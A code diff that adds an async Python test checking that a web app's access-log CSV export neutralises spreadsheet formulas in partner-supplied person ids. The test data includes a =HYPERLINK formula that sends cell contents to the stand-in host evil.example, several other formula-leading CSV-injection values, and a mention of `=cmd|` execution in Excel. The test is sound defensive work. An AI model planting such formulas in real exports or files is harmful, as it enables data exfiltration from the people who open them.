@@ -6,6 +6,8 @@ it calls are played by the test (httpx MockTransport), so each page is checked w
 from __future__ import annotations
 
 import base64
+import csv
+import io
 import json
 import os
 import re
@@ -14,6 +16,7 @@ import sys
 from collections.abc import AsyncIterator, Callable
 from datetime import timedelta
 from typing import Any
+from urllib.parse import quote
 
 import asyncpg
 import httpx
@@ -229,6 +232,30 @@ async def test_the_access_log_shows_what_was_looked_at_like_its_csv(desk: Desk) 
     assert "Social record" in english and "Document d-1" in english and "Privacy notice" in english, english
     csv = await desk.client.get("/access-log.csv?person_id=p-1")
     assert "document d-1" in csv.text  # the export keeps the stored action
+
+
+async def test_the_access_log_csv_never_holds_a_formula_a_partner_wrote(desk: Desk) -> None:
+    """A person's id is the partner's choice (intake takes 1-64 characters): a Torino partner registered
+    `=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&B3,"Apri")`, a cooperative's operator tried its cartella,
+    and the DPO's export held the formula as a cell, which a spreadsheet runs on opening (a link sending the log's
+    cells away; `=cmd|…` on older Excel). Every text cell that a spreadsheet would read as a formula is exported as
+    text (OWASP's "CSV injection": a leading `'`); the page shows the id as it is."""
+    formula = '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&B3,"Apri")'
+    aurora = Operator("aurora", "Operatrice Aurora", OperatorRole.PARTNER, "torino", "coop-aurora")
+    refusal = {"status": 403, "field": "person_id", "reason": "not a person of your cases"}
+    ids = (formula, "+1+1", "-2+3", "@SUM(1)", "\tx", "p-1")
+    for pid in ids:
+        desk.services.answers[("intake", "GET", f"/persons/{pid}/record")] = httpx.Response(403, json=refusal)
+    await desk.as_operator(aurora)
+    for pid in ids:
+        tried = await desk.client.get("/persons/" + quote(pid, safe=""))
+        assert tried.status_code == 403, tried.text
+    await desk.as_operator(RPD)
+    exported = await desk.client.get("/access-log.csv")
+    cells = [row[2] for row in csv.reader(io.StringIO(exported.text))][1:]
+    assert sorted(cells) == sorted(["'" + formula, "'+1+1", "'-2+3", "'@SUM(1)", "'\tx", "p-1"]), cells
+    page = await desk.client.get("/access-log")
+    assert formula in text_of(page.text)  # the page itself shows the id as stored
 
 
 def agenda_services(services: FakeServices) -> list[dict[str, Any]]:
